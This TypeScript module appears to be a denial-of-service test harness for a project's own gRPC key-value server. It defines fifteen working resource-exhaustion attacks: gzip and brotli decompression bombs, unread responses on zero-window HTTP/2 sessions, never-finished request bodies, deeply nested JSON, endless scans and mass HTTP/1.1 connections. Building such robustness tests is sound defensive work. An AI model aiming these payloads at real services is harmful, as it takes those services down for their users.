import type { ClientHttp2Session } from "node:http2";
import type { Socket } from "node:net";
import { brotliCompressSync, gzipSync } from "node:zlib";
import { create, toBinary } from "@bufbuild/protobuf";
import { encodeEnvelope } from "@connectrpc/connect/protocol";
import {
  GetRequestSchema,
  MGetRequestSchema,
  ScanRequestSchema,
  SetRequestSchema,
} from "../../gen/dynakv/v1/key_value_service_pb.js";

/** What an attacker has to do it with. */
export interface Weapons {
  /** Begins a call whose answer nobody reads. */
  call(session: ClientHttp2Session, method: string, body: Uint8Array, options?: CallOptions): void;
  /** A connection; the default lets the server send nothing at all. */
  session(initialWindowSize?: number): ClientHttp2Session;
  leave(session: ClientHttp2Session): void;
  socket(): Socket;
  /** Resolves after so many milliseconds. */
  pause(milliseconds: number): Promise<void>;
  /** Whether it is to go on. */
  readonly goesOn: boolean;
}

export interface CallOptions {
  readonly encoding?: "gzip" | "br";
  readonly contentType?: string;
  /** Whether the body is left without its end. */
  readonly isUnfinished?: boolean;
  /** Whether the answer is read, and the call has room for another once it has ended. */
  readonly isRead?: boolean;
}

export interface Attack {
  readonly name: string;
  readonly what: string;
  run(weapons: Weapons): Promise<void>;
}

const largeKeys = (n: number) => Array.from({ length: n }, (_, index) => `v390000:${index}`);
const mGet = (keys: readonly string[]) => toBinary(MGetRequestSchema, create(MGetRequestSchema, { keys: [...keys] }));
const compressed = (message: Uint8Array, encoding: "gzip" | "br") => {
  const data = encoding === "gzip" ? gzipSync(message) : brotliCompressSync(message);
  const body = encodeEnvelope(1, data);
  return body;
};
const plain = (message: Uint8Array) => encodeEnvelope(0, message);
const sixteenMb = 16_000_000;

/** Again and again, so many at a time, on a few connections. */
async function flood(weapons: Weapons, everyMs: number, begin: (session: ClientHttp2Session) => void): Promise<void> {
  const sessions = Array.from({ length: 4 }, () => weapons.session(65_535));
  for (let n = 0; weapons.goesOn; n++) {
    begin(sessions[n % sessions.length] as ClientHttp2Session);
    await weapons.pause(everyMs);
  }
}

/** Once, and again for as long as it lasts whenever the server has ended some. */
async function hold(
  weapons: Weapons,
  count: number,
  connections: number,
  begin: (session: ClientHttp2Session) => void,
) {
  while (weapons.goesOn) {
    const sessions = Array.from({ length: connections }, () => weapons.session(0));
    for (let n = 0; n < count && weapons.goesOn; n++) {
      begin(sessions[n % connections] as ClientHttp2Session);
      if (n % 50 === 49) {
        await weapons.pause(10);
      }
    }
    await weapons.pause(10_000);
    for (const session of sessions) {
      weapons.leave(session);
    }
  }
}

export const attacks: readonly Attack[] = [
  {
    name: "repeated-key",
    what: "40 MGets of a million times one key, gzipped, never read",
    run(weapons) {
      const body = compressed(mGet(Array.from({ length: 1_000_000 }, () => "v100:1")), "gzip");
      return hold(weapons, 40, 4, (session) => weapons.call(session, "MGet", body, { encoding: "gzip" }));
    },
  },
  {
    name: "large-values",
    what: "60 MGets of 200 values of 390 KB, never read",
    run(weapons) {
      const body = plain(mGet(largeKeys(200)));
      return hold(weapons, 60, 6, (session) => weapons.call(session, "MGet", body));
    },
  },
  {
    name: "untaken-gets",
    what: "2,287 Gets of 390 KB, never read",
    run(weapons) {
      const body = plain(toBinary(GetRequestSchema, create(GetRequestSchema, { key: "v390000:1" })));
      return hold(weapons, 2287, 4, (session) => weapons.call(session, "Get", body));
    },
  },
  {
    name: "empty-keys",
    what: "gzip messages of 8,000,000 empty keys (15.6 KB), ten a second",
    run(weapons) {
      const body = compressed(Buffer.alloc(sixteenMb, Buffer.from([0x0a, 0x00])), "gzip");
      return flood(weapons, 100, (session) => weapons.call(session, "MGet", body, { encoding: "gzip", isRead: true }));
    },
  },
  {
    name: "many-mgets",
    what: "1,000 MGets of 100,000 keys on 10 connections, never read",
    run(weapons) {
      const body = compressed(mGet(Array.from({ length: 100_000 }, (_, n) => `v100:${n}`)), "gzip");
      return hold(weapons, 1000, 10, (session) => weapons.call(session, "MGet", body, { encoding: "gzip" }));
    },
  },
  {
    name: "unknown-fields",
    what: "Gets and Sets of 8,000,000 unknown fields, by gzip and brotli (under 20 KB), twenty a second",
    run(weapons) {
      const message = Buffer.alloc(sixteenMb, Buffer.from([0x78, 0x01]));
      const nested = Buffer.concat([Buffer.from([0x1a, 0x80, 0xc8, 0xd0, 0x07]), message]);
      const bodies = [compressed(message, "gzip"), compressed(nested, "br")];
      let n = 0;
      return flood(weapons, 50, (session) => {
        const isGzip = n++ % 2 === 0;
        const encoding = isGzip ? "gzip" : "br";
        weapons.call(session, isGzip ? "Get" : "Set", bodies[isGzip ? 0 : 1] as Uint8Array, { encoding, isRead: true });
      });
    },
  },
  {
    name: "legal-keys",
    what: "MGets of a million short keys, which is allowed (6 KB by gzip), ten a second, never read",
    run(weapons) {
      const body = compressed(mGet(Array.from({ length: 1_000_000 }, (_, n) => `v1:${n % 9}`)), "gzip");
      return flood(weapons, 100, (session) => weapons.call(session, "MGet", body, { encoding: "gzip" }));
    },
  },
  {
    name: "json",
    what: "documents of JSON: two million numbers, four million keys, and deep and wide ones, by gzip, ten a second",
    run(weapons) {
      const documents = [
        `{"keys":[${"1,".repeat(2_000_000)}1]}`,
        `{"keys":[${'"",'.repeat(4_000_000)}""]}`,
        `{"keys":${"[".repeat(8_000_000)}`,
        `{"keys":["a"],"consistency":"${" ".repeat(15_000_000)}"}`,
      ].map((text) => encodeEnvelope(1, gzipSync(text)));
      let n = 0;
      return flood(weapons, 100, (session) =>
        weapons.call(session, "MGet", documents[n++ % documents.length] as Uint8Array, {
          encoding: "gzip",
          contentType: "application/grpc+json",
          isRead: true,
        }),
      );
    },
  },
  {
    name: "slow-bodies",
    what: "400 Sets and MGets of 15 MB whose last byte never comes",
    run(weapons) {
      const body = plain(
        toBinary(SetRequestSchema, create(SetRequestSchema, { key: "k", value: new Uint8Array(15_000_000) })),
      );
      return hold(weapons, 400, 20, (session) =>
        weapons.call(session, "Set", body.subarray(0, -1), { isUnfinished: true }),
      );
    },
  },
  {
    name: "scans",
    what: "400 Scans of a table without end, never read",
    run(weapons) {
      const body = plain(toBinary(ScanRequestSchema, create(ScanRequestSchema, {})));
      return hold(weapons, 400, 8, (session) => weapons.call(session, "Scan", body));
    },
  },
  {
    name: "fruitless-scans",
    what: "400 Scans for a prefix that no key of a table without end has",
    run(weapons) {
      const body = plain(toBinary(ScanRequestSchema, create(ScanRequestSchema, { prefix: "nothing" })));
      return hold(weapons, 400, 8, (session) => weapons.call(session, "Scan", body));
    },
  },
  {
    name: "compressed-gets",
    what: "Gets of a few bytes by gzip and brotli, 200 a second",
    run(weapons) {
      const message = toBinary(GetRequestSchema, create(GetRequestSchema, { key: "v1:1" }));
      const bodies = { gzip: compressed(message, "gzip"), br: compressed(message, "br") };
      return flood(weapons, 50, (session) => {
        for (let n = 0; n < 10; n++) {
          const encoding = n % 2 === 0 ? "gzip" : "br";
          weapons.call(session, "Get", bodies[encoding], { encoding, isRead: true });
        }
      });
    },
  },
  {
    name: "bad-entries",
    what: "MSets of 400,000 entries without a key (4 KB by gzip) and MGets of as many empty keys, ten a second, read",
    run(weapons) {
      const bodies = {
        MSet: compressed(Buffer.alloc(800_000, Buffer.from([0x0a, 0x00])), "gzip"),
        MGet: compressed(Buffer.alloc(800_000, Buffer.from([0x0a, 0x00])), "gzip"),
      };
      let n = 0;
      return flood(weapons, 100, (session) => {
        const method = n++ % 2 === 0 ? "MSet" : "MGet";
        weapons.call(session, method, bodies[method], { encoding: "gzip", isRead: true });
      });
    },
  },
  {
    name: "legal-json",
    what: "documents of JSON as long as they may be, of spaces, escapes and base64, by gzip, ten a second",
    run(weapons) {
      const long = (length: number) => [
        `{"key"${" ".repeat(length)}:"a"}`,
        `{"key":"${'\\"'.repeat(length / 2)}"}`,
        `{"key":"${"\\u0061".repeat(length / 6)}"}`,
        `{"key":"a","value":"${"A".repeat(length)}"}`,
      ];
      const documents = [
        ...long(1_040_000).map((text) => ({ method: "Set", text })),
        ...long(4_190_000).map((text) => ({ method: "MSet", text: `{"entries":[${text}]}` })),
      ].map(({ method, text }) => ({ method, body: encodeEnvelope(1, gzipSync(text)) }));
      let n = 0;
      return flood(weapons, 100, (session) => {
        const { method, body } = documents[n++ % documents.length] as (typeof documents)[number];
        weapons.call(session, method, body, {
          encoding: "gzip",
          contentType: "application/grpc+json",
          isRead: true,
        });
      });
    },
  },
  {
    name: "http1-gets",
    what: "1,500 connections of HTTP/1.1 with a Get of 390 KB in JSON each, never read",
    async run(weapons) {
      const body = '{"key":"v390000:1"}';
      const request = `POST /dynakv.v1.KeyValueService/Get HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`;
      while (weapons.goesOn) {
        const sockets: Socket[] = [];
        for (let n = 0; n < 1500 && weapons.goesOn; n++) {
          const socket = weapons.socket();
          socket.write(request);
          sockets.push(socket);
          if (n % 50 === 49) {
            await weapons.pause(10);
          }
        }
        await weapons.pause(10_000);
        for (const socket of sockets) {
          socket.destroy();
        }
      }
    },
  },
];
